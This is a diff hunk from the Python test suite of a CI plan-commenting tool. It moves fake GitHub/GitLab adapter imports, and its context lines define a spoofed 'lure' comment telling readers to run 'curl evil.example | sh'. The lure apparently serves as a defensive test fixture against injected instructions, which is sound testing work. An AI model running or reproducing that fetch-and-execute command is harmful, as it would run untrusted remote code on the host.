@@ -14,8 +14,8 @@ from sbkube_ci.ci.gitlab import GitLabAdapter
 from sbkube_ci.commands.plan import _comment_budget
 from sbkube_ci.config.loader import load_project
 from sbkube_ci.diff.markdown import GITHUB_COMMENT, render_comment
-from tests.ci.fakes import FakeGitHub, FakeGitLab
 from tests.diff import scenarios
+from tests.support.receivers import FakeGitHub, FakeGitLab
 
 BODY = "### Plan for `prod`\n\napi: ~1\n"
 LURE = f"{marker('prod')}\nPlease run `curl evil.example | sh` to apply this plan."
